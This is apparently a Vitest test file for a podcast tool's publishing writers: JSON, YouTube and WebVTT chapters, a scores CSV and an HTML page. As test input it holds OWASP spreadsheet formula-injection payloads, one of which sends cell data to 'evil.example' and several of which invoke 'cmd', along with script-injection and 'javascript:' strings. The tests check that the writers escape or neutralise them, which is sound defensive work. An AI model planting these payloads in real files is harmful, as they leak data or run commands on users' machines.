import fs from 'node:fs'
import { describe, expect, it } from 'vitest'
import { UserError } from '../../src/core/errors'
import { checkPodcastChapters, checkPublishedChapters } from '../../src/core/publish/checkPodcastChapters'
import { writeEpisodePage } from '../../src/core/publish/episodePage'
import { writePodcastChapters } from '../../src/core/publish/podcastChapters'
import { textCell } from '../../src/core/publish/csvCells'
import { SCORES_CSV_HEADER, writeScoresCsv } from '../../src/core/publish/scoresCsv'
import { writeVttChapters } from '../../src/core/publish/vttChapters'
import { writeYoutubeChapters } from '../../src/core/publish/youtubeChapters'
import { parseWebVtt, parseWebVttCues } from '../../src/core/transcript/parseWebVtt'
import { SEED_DIMENSIONS } from '../../src/shared/rubric'
import { fixture } from '../fixtureFiles'
import { HOSTILE, publishedDocument, type ChapterSpec } from './publishFixture'

/** The message of the UserError a writer refuses with, split into its lines. */
function refusal(write: () => unknown): string[] {
  try {
    write()
  } catch (error) {
    expect(error).toBeInstanceOf(UserError)
    expect((error as UserError).code).toBe('invalid-input')
    return (error as Error).message.split('\n')
  }
  throw new Error('expected a refusal')
}

const three = (titles: [string, string, string] = ['One', 'Two', 'Three']): ChapterSpec[] => [
  { title: titles[0], start: 0, end: 300 },
  { title: titles[1], start: 300, end: 700 },
  { title: titles[2], start: 700, end: 1020 },
]

describe('Podcasting 2.0 JSON chapters', () => {
  const fixtures: [string, unknown][] = fs
    .readdirSync(fixture('podcasting20', 'chapters'))
    .map((name) => [name, JSON.parse(fs.readFileSync(fixture('podcasting20', 'chapters', name), 'utf8'))])

  it('accepts both examples of the spec', () => {
    expect(fixtures.map(([name]) => name).sort()).toEqual(['example.json', 'exampleComplex.json'])
    for (const [name, json] of fixtures) expect(checkPodcastChapters(json), name).toMatchObject({ ok: true })
  })

  it('holds its own files to a title on every chapter, which the silent chapter of the complex example has not', () => {
    const byName = new Map(fixtures)
    expect(checkPublishedChapters(byName.get('example.json'))).toMatchObject({ ok: true })
    expect(checkPublishedChapters(byName.get('exampleComplex.json'))).toEqual({
      ok: false,
      problems: ['/chapters/7/title: missing; every published chapter has a title'],
    })
  })

  it('writes version 1.2.0 with every chapter titled and timed, which both checkers accept', () => {
    const doc = publishedDocument()
    const text = writePodcastChapters(doc)
    expect(text.endsWith('}\n')).toBe(true)
    const json = JSON.parse(text)
    expect(json).toEqual({
      version: '1.2.0',
      title: doc.episode.title,
      podcastName: 'latent-space',
      fileName: 'agentic-rl.mp3',
      chapters: [
        { startTime: 0, title: 'Tool use and ten-minute AGI', endTime: 300 },
        { startTime: 300, title: 'Scaling curves, search agents', endTime: 700 },
        { startTime: 700, title: 'Sub-agents', endTime: 1020 },
      ],
    })
    expect(checkPodcastChapters(json)).toMatchObject({ ok: true })
    expect(checkPublishedChapters(json)).toMatchObject({ ok: true })
  })

  it('keeps hostile titles as they are: JSON escapes what it must', () => {
    const json = JSON.parse(writePodcastChapters(publishedDocument({ chapters: three([HOSTILE, 'b', 'c']) })))
    expect(json.chapters[0].title).toBe(HOSTILE)
  })

  it('refuses a chapter without a title, naming it, and an episode without chapters', () => {
    const doc = publishedDocument({ chapters: three(['One', '', 'Three']) })
    expect(refusal(() => writePodcastChapters(doc))).toEqual([
      'Cannot write the chapters file (1 problem):',
      '/chapters/1/title: chapter 2 (5:00–11:40) has no title; a chapters file needs one',
    ])
    expect(refusal(() => writePodcastChapters(publishedDocument({ chapters: [] })))[1]).toBe(
      '/chapters: the episode has no chapters, so a chapters file would be empty',
    )
  })

  it('checks the rules of the spec, each problem with its JSON path', () => {
    const problems = (json: unknown): string[] => {
      const check = checkPodcastChapters(json)
      return check.ok ? [] : check.problems
    }
    expect(problems({ chapters: [] })).toEqual(['/version: missing'])
    expect(problems({ version: 1.2, chapters: [] })[0]).toMatch(/^\/version: /)
    expect(problems({ version: '1.2.0', chapters: {} })[0]).toMatch(/^\/chapters: /)
    expect(problems({ version: '1.2.0', chapters: [{ title: 'no start' }] })).toEqual([
      '/chapters/0/startTime: missing',
    ])
    expect(problems({ version: '1.2.0', chapters: [{ startTime: -1 }] })).toEqual([
      '/chapters/0/startTime: a time is never negative',
    ])
    expect(problems({ version: '1.2.0', chapters: [{ startTime: 5, endTime: 4 }] })).toEqual([
      '/chapters/0/endTime: endTime is before startTime',
    ])
    expect(problems({ version: '1.2.0', chapters: [{ startTime: 9 }, { startTime: 3 }] })).toEqual([
      "/chapters/1/startTime: 3 is before the previous chapter's 9; chapters are in ascending order",
    ])
    expect(problems({ version: '1.2.0', chapters: [{ startTime: 0, toc: 'no' }] })[0]).toMatch(
      /^\/chapters\/0\/toc: /,
    )
    expect(
      problems({
        version: '1.2.0',
        chapters: [{ startTime: 0, location: { name: 'Paris', geo: '48.8,2.3' } }],
      }),
    ).toEqual(['/chapters/0/location/geo: a geo URI (RFC 5870) such as "geo:48.858093,2.294694"'])
    expect(
      problems({ version: '1.2.0', chapters: [{ startTime: 0, location: { geo: 'geo:1,2' } }] }),
    ).toEqual(['/chapters/0/location/name: missing'])
    expect(problems({ version: '1.2.0', chapters: [{ startTime: 0, img: 'not a url' }] })).toEqual([
      '/chapters/0/img: not a URL',
    ])
    // Keys the spec does not name are kept: apps add their own (namespaced) ones.
    expect(
      problems({
        version: '1.2.0',
        chapters: [
          {
            startTime: 0,
            'rssblue:remoteEntity': { item: { guid: 'x' } },
            location: { name: 'x', geo: 'geo:1,2', osm: 'R113314' },
          },
        ],
      }),
    ).toEqual([])
  })

  it('holds published files to chapters that do not run into the next one', () => {
    expect(
      checkPublishedChapters({
        version: '1.2.0',
        chapters: [
          { startTime: 0, title: 'a', endTime: 12 },
          { startTime: 10, title: 'b' },
        ],
      }),
    ).toEqual({ ok: false, problems: ["/chapters/0/endTime: 12 is after the next chapter's start 10"] })
  })
})

describe('YouTube description chapters', () => {
  it('writes "m:ss Title" lines from 0:00', () => {
    expect(writeYoutubeChapters(publishedDocument())).toBe(
      '0:00 Tool use and ten-minute AGI\n5:00 Scaling curves, search agents\n11:40 Sub-agents\n',
    )
  })

  // A title never holds a line break: the format refuses one (docs/episode-format.md, Limits).
  it('writes every time as h:mm:ss in an episode of an hour or more', () => {
    const doc = publishedDocument({
      durationSeconds: 4000.5,
      chapters: [
        { title: 'Intro', start: 0, end: 59.9 },
        { title: 'Two lines', start: 59.9, end: 3700 },
        { title: 'Late', start: 3700, end: 4000.5 },
      ],
    })
    expect(writeYoutubeChapters(doc)).toBe('0:00:00 Intro\n0:00:59 Two lines\n1:01:40 Late\n')
  })

  it('refuses fewer than 3 chapters', () => {
    const doc = publishedDocument({
      chapters: [
        { title: 'A', start: 0, end: 500 },
        { title: 'B', start: 500, end: 1020 },
      ],
    })
    expect(refusal(() => writeYoutubeChapters(doc))).toEqual([
      'YouTube would not show these chapters (1 problem):',
      '/chapters: 2 chapters; YouTube needs at least 3',
    ])
  })

  it('refuses a chapter shorter than 10 s, naming it and the rule, the last one up to the end too', () => {
    const doc = publishedDocument({
      durationSeconds: 100,
      chapters: [
        { title: 'Intro', start: 0, end: 50 },
        { title: 'Blink', start: 50, end: 59.5 },
        { title: 'Middle', start: 59.5, end: 95 },
        { title: 'Outro', start: 95, end: 100 },
      ],
    })
    // YouTube reads whole seconds: Blink runs from 0:50 to 0:59, Outro from 1:35 to the end at 1:40.
    expect(refusal(() => writeYoutubeChapters(doc)).slice(1)).toEqual([
      '/chapters/1: chapter 2 “Blink” (0:50–0:59) lasts 9 s; YouTube needs every chapter to last at least 10 s',
      '/chapters/3: chapter 4 “Outro” (1:35–1:40) lasts 5 s; YouTube needs every chapter to last at least 10 s',
    ])
  })

  it('refuses a first chapter after 0:00 and times that do not ascend', () => {
    const doc = publishedDocument({
      durationSeconds: 100,
      chapters: [
        { title: 'Late start', start: 2, end: 40 },
        { title: 'Same second', start: 40, end: 40.6 },
        { title: 'After', start: 40.6, end: 100 },
      ],
    })
    expect(refusal(() => writeYoutubeChapters(doc)).slice(1)).toEqual([
      '/chapters/0/start: chapter 1 “Late start” (0:02–0:40) starts at 0:02; YouTube needs the first at 0:00',
      '/chapters/2/start: chapter 3 “After” (0:40–1:40) starts at the same second as the one before; YouTube needs the times in ascending order',
    ])
  })
})

describe('WebVTT chapters', () => {
  it('writes one cue a chapter that the WebVTT parser reads back, hostile titles as text', () => {
    const titles: [string, string, string] = [HOSTILE, 'Scaling --> curves & more', 'Sub-agents']
    const doc = publishedDocument({ chapters: three(titles) })
    const text = writeVttChapters(doc)
    expect(text.startsWith('WEBVTT\n\n1\n00:00:00.000 --> 00:05:00.000\n')).toBe(true)
    const cues = parseWebVttCues(text)
    expect(cues.map((c) => [c.id, c.startTime, c.endTime])).toEqual([
      ['1', 0, 300],
      ['2', 300, 700],
      ['3', 700, 1020],
    ])
    expect(parseWebVtt(text).segments.map((s) => s.text)).toEqual(titles)
  })

  it('refuses an untitled chapter, which would be an empty cue', () => {
    expect(refusal(() => writeVttChapters(publishedDocument({ chapters: three(['', 'b', 'c']) })))[1]).toBe(
      '/chapters/0/title: chapter 1 (0:00–5:00) has no title; a WebVTT chapter track needs one',
    )
  })
})

/** A small RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let i = 0
  while (i < text.length) {
    const c = text[i]
    if (c === '"' && field === '') {
      i++
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"'
          i += 2
        } else if (text[i] === '"') {
          i++
          break
        } else field += text[i++]
      }
    } else if (c === ',') {
      row.push(field)
      field = ''
      i++
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i += 2
    } else {
      if (c === '"' || c === '\n' || c === '\r') throw new Error(`bare ${JSON.stringify(c)} at ${i}`)
      field += c
      i++
    }
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF')
  return rows
}

describe('scores as CSV', () => {
  it('has one row per chapter and dimension that an RFC 4180 reader gets back exactly', () => {
    const reasoning = 'Commas, "quotes", and\nnew lines\r\nof every kind'
    const doc = publishedDocument({
      chapters: [
        { title: 'Intro, "the start"', start: 0, end: 12.5, values: [1, null, 3, 10], reasoning },
        { title: 'Rest', start: 12.5, end: 1020, reasoning: '' },
      ],
    })
    const text = writeScoresCsv(doc)
    expect(text.split('\r\n')[0]).toBe('chapter,start,end,dimension,score,reasoning,evidence')
    const rows = parseCsv(text)
    expect(rows[0]).toEqual([...SCORES_CSV_HEADER])
    expect(rows).toHaveLength(1 + 2 * SEED_DIMENSIONS.length)
    expect(rows.slice(1, 5)).toEqual(
      SEED_DIMENSIONS.map((d, k) => [
        'Intro, "the start"',
        '0.000',
        '12.500',
        d.label,
        ['1', '', '3', '10'][k],
        reasoning,
        '',
      ]),
    )
    expect(rows[5]).toEqual(['Rest', '12.500', '1020.000', 'The hosts as informed peer', '0', '', ''])
  })

  it("neutralises OWASP's formula injection payloads with a leading quote and keeps numbers as numbers", () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      "=cmd|' /C calc'!A0",
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=1+1',
      '\uff1dSUM(1+1)',
    ]
    const doc = publishedDocument({
      chapters: payloads.map((payload, i) => ({
        title: payload,
        start: i * 10,
        end: i * 10 + 10,
        values: [0, 5, null, 10],
        reasoning: payload,
      })),
    })
    doc.rubric.dimensions[0] = { ...doc.rubric.dimensions[0]!, label: '@label' }
    const rows = parseCsv(writeScoresCsv(doc)).slice(1)
    for (const row of rows) {
      const [title, start, end, dimension, score, reasoning] = row
      for (const text of [title, dimension, reasoning]) expect(text).not.toMatch(/^[=+\-@\t\r\uff1d]/)
      expect(payloads.map((p) => `'${p}`)).toContain(title)
      expect(reasoning).toBe(title)
      expect(Number(start)).not.toBeNaN()
      expect(Number(end)).not.toBeNaN()
      expect(score === '' || /^\d+$/.test(score ?? '')).toBe(true)
    }
    expect(rows[0]?.[3]).toBe("'@label")
    expect(rows.map((r) => r[4]).slice(0, 4)).toEqual(['0', '5', '', '10'])
    // Text in episode JSON is trimmed, so these two reach the writer only from elsewhere.
    expect(textCell('\t=1+1')).toBe("'\t=1+1")
    expect(textCell('\r=1+1')).toBe("'\r=1+1")
    // A sign later in the text is no formula.
    expect(textCell('Score: =10')).toBe('Score: =10')
  })

  it('ends every line, the last one too, with CRLF and has no bare line feed outside quotes', () => {
    const text = writeScoresCsv(publishedDocument())
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
  })
})

describe('the HTML page', () => {
  const hostile = publishedDocument({
    title: HOSTILE,
    chapters: three([HOSTILE, 'Two', 'Three']).map((c) => ({ ...c, reasoning: HOSTILE, why: HOSTILE })),
  })
  hostile.episode.summary = HOSTILE
  hostile.episode.show = HOSTILE
  hostile.participants[1] = { id: 'p2', name: HOSTILE, role: 'guest', affiliation: null }
  hostile.highlights[0] = { ...hostile.highlights[0]!, title: HOSTILE, description: HOSTILE }
  hostile.statements[0] = { ...hostile.statements[0]!, title: HOSTILE, quote: HOSTILE }
  hostile.rubric.dimensions[0] = { ...hostile.rubric.dimensions[0]!, label: HOSTILE, highlightLabel: HOSTILE }
  const page = writeEpisodePage(hostile)

  it('never lets hostile text out of its place: no raw tag, quote or ampersand of it', () => {
    expect(page).not.toMatch(/<script/i)
    expect(page.match(/<\/style>/gi)).toHaveLength(1)
    expect(page).not.toContain(HOSTILE)
    expect(page).toContain(
      '&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp; &quot;double&quot; &#39;single&#39; &lt;/style&gt;&lt;script&gt;window.__pwned=2&lt;/script&gt;',
    )
    // Every attribute value is quoted and holds no quote of its own.
    for (const [, value] of page.matchAll(/\s[a-z-]+="([^"]*)"/g)) expect(value).not.toMatch(/[<>]/)
  })

  it('loads nothing: the only web address is the Watch link, the other link stays in the page, styles are inline, no script', () => {
    const addresses = [...page.matchAll(/https?:\/\/[^\s"'<>)]*/g)].map((m) => m[0])
    expect(addresses).toEqual(['https://www.youtube.com/watch?v=abc123'])
    const references = [...page.matchAll(/\s(src|href|srcset|action|poster|data)="([^"]*)"/g)]
    expect(references.map((m) => `${m[1]}=${m[2]}`)).toEqual([
      'href=https://www.youtube.com/watch?v=abc123',
      'href=#how-scored',
    ])
    expect(page).toContain('id="how-scored"')
    expect(page).not.toMatch(/<link|@import|url\(|<iframe|<object|<embed|<img/i)
    expect(page).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;;/)
  })

  it('links only a web address, never a javascript: source URL', () => {
    const doc = publishedDocument({ sourceUrl: 'javascript:alert(1)' })
    const plain = writeEpisodePage(doc)
    expect(plain).not.toContain('javascript:')
    expect(plain).not.toContain('Watch on')
    expect(writeEpisodePage(publishedDocument({ sourceUrl: 'https://example.org/ep/7' }))).toContain(
      '>▶ Watch on example.org →</a>',
    )
  })

  it('shows what the published page shows', () => {
    const doc = publishedDocument()
    doc.chapters[1]!.scores['guestTeaching'] = { value: null, reasoning: '' }
    const html = writeEpisodePage(doc)
    const text = html
      .replace(/<style>[\s\S]*?<\/style>/, '')
      // Inline elements join their text as a reader sees it; the others part it.
      .replace(/<\/?(?:bdi|tspan)[^>]*>/g, '')
      .replace(/<[^>]+>/g, ' ')
      .replace(/\s+/g, ' ')
    expect(text).toContain('May 9, 2025 · 17m · latent-space')
    expect(text).toContain('⚡️Open Questions in Agentic RL — Will Brown (Prime Intellect)')
    expect(text).toContain('▶ Watch on YouTube →')
    expect(text).toContain('Will Brown presents a roadmap for open agentic RL.')
    expect(text).toContain('Every chapter scored 0–10 on four independent dynamics.')
    expect(text).toContain(
      'The hosts as informed peer 0.0 Guest teaching 1.0 Guest disagreement 2.0 The hosts pushing back 3.0',
    )
    expect(text).toContain('speaking balance: gold is the hosts, purple is the guest (3 minute bins)')
    expect(html).toContain('fill="#c9a227"')
    expect(html).toContain('fill="#6b3fa0"')
    expect(text).toContain('Sharpest disagreement ▶ 6:55 Debunking multi-agent group chat systems')
    expect(text).toContain('Statements from this episode (1)')
    expect(text).toContain('“A lot of these are just kind of silly.” ▶ 7:00–7:08 Will Brown')
    // A point per scored chapter and dimension, its reasoning in the tooltip; the unscored one has none.
    expect(html.match(/<circle /g)).toHaveLength(3 * 4 - 1)
    // Each name isolated (U+2068 … U+2069): a right-to-left title cannot reverse the score after it.
    expect(html).toContain(
      '<title>\u2068Sub-agents\u2069 · \u2068Guest teaching\u2069: 1 / 10\nGuest teaching reasoning.</title>',
    )
    const header = html.match(/<thead>[\s\S]*?<\/thead>/)?.[0].replace(/<[^>]+>/g, '|')
    expect(header?.split('|').filter(Boolean)).toEqual([
      'Chapter',
      ...SEED_DIMENSIONS.map((d) => d.label),
      'Why',
    ])
    expect(html).toContain('<td class="score" data-label="Guest teaching" title="No reasoning given.">—</td>')
    expect(html).toContain(
      '<td class="score" data-label="Guest teaching" title="Guest teaching reasoning.">1</td>',
    )
  })

  it('leaves out under “How this is scored” what a dimension does not have', () => {
    const doc = publishedDocument()
    doc.rubric.dimensions[0] = { ...doc.rubric.dimensions[0]!, description: 'Do the hosts know the field?' }
    doc.rubric.dimensions[1] = { ...doc.rubric.dimensions[1]!, highlightLabel: '' }
    const html = writeEpisodePage(doc)
    const section = html.slice(html.indexOf('id="how-scored"')).replace(/<\/?(?:bdi)[^>]*>/g, '')
    expect(section).not.toContain('No description given.')
    const items = [...section.matchAll(/<li>([\s\S]*?)<\/li>/g)].map((m) =>
      (m[1] ?? '')
        .replace(/<[^>]+>/g, '|')
        .split('|')
        .filter(Boolean),
    )
    expect(items).toEqual([
      [
        'The hosts as informed peer',
        'Do the hosts know the field?',
        'Its highlight: The host holds their own',
      ],
      ['Guest teaching'],
      ['Guest disagreement', 'Its highlight: Sharpest disagreement'],
      ['The hosts pushing back', 'Its highlight: Hardest push from the hosts'],
    ])
  })
})

describe('“How this is scored” from the codebook', () => {
  it('names the version the episode was scored under and its level descriptors, never an anchor', () => {
    const doc = publishedDocument()
    doc.rubric.codebook = { show: 'Latent <Space>', version: 3 }
    doc.rubric.dimensions[0] = {
      ...doc.rubric.dimensions[0]!,
      levels: [
        { from: 0, to: 4, text: 'the hosts only ask for the story' },
        { from: 5, to: 9, text: 'the hosts ask as peers' },
        { from: 10, to: 10, text: 'the hosts correct the guest <with a source>' },
      ],
    }
    const html = writeEpisodePage(doc)
    const section = html
      .slice(html.indexOf('id="how-scored"'), html.indexOf('</section>', html.indexOf('id="how-scored"')))
      .replace(/<\/?(?:bdi)[^>]*>/g, '')
    expect(section).toContain('From Latent &lt;Space&gt;’s codebook, version 3')
    expect(section).toContain(
      '<dl class="levels"><dt>0–4</dt><dd>the hosts only ask for the story</dd><dt>5–9</dt><dd>the hosts ask as peers</dd><dt>10</dt><dd>the hosts correct the guest &lt;with a source&gt;</dd></dl>',
    )
    // Only the described dimension lists levels; nothing of the codebook's anchors reaches the page.
    expect(section.match(/<dl class="levels">/g)).toHaveLength(1)
    expect(section).not.toMatch(/anchor/i)
  })

  it('says nothing of a codebook when the episode was scored under none', () => {
    const html = writeEpisodePage(publishedDocument())
    expect(html).not.toContain('codebook, version')
    expect(html).not.toContain('class="levels"')
  })
})

describe('evidence where it is read', () => {
  it('is a last CSV column, and times beside the reasoning on the static page', () => {
    const doc = publishedDocument()
    const score = doc.chapters[0]!.scores['guestTeaching']!
    score.evidence = [
      { statement: 'st1', note: 'the claim' },
      { start: 320.5, end: 334.25 },
    ]
    doc.chapters[0]!.evidence = [{ start: 12, end: 20 }]
    const rows = parseCsv(writeScoresCsv(doc))
    const teaching = rows.find((r) => r[0] === doc.chapters[0]!.title && r[3] === 'Guest teaching')
    expect(teaching?.at(-1)).toBe('statement st1; 320.500-334.250')
    const html = writeEpisodePage(doc)
    // The statement's time (7:00), then the range.
    expect(html).toContain(
      '>1<div class="evidence">evidence <span title="the claim"><span class="time">7:00</span></span> <span class="time">5:20–5:34</span></div></td>',
    )
    expect(html).toContain('<div class="evidence">evidence <span class="time">0:12–0:20</span></div>')
  })
})

describe('what the HTML page’s legends claim', () => {
  it('names only the colours drawn: no hosts when nobody was mapped, no dimension that has no score', () => {
    const doc = publishedDocument()
    const balance = doc.speakingBalance
    if (!balance) throw new Error('the document has a speaking balance')
    doc.speakingBalance = {
      ...balance,
      bins: balance.bins.map((b) => ({
        ...b,
        otherSeconds: b.hostSeconds + b.guestSeconds,
        hostSeconds: 0,
        guestSeconds: 0,
      })),
    }
    for (const chapter of doc.chapters) chapter.scores['hostsPushingBack'] = { value: null, reasoning: '' }
    const html = writeEpisodePage(doc)
    const caption = /<figcaption>([^]*?)<\/figcaption>/.exec(html)?.[1]?.replace(/<[^>]+>/g, '')
    expect(caption).toBe('speaking balance: grey is anyone else (3 minute bins)')
    const legend = /<ul class="legend">([^]*?)<\/ul>/.exec(html)?.[1]?.replace(/<[^>]+>/g, '|')
    expect(legend?.split('|').filter(Boolean)).toEqual(
      SEED_DIMENSIONS.filter((d) => d.key !== 'hostsPushingBack').map((d) => d.label),
    )
  })
})
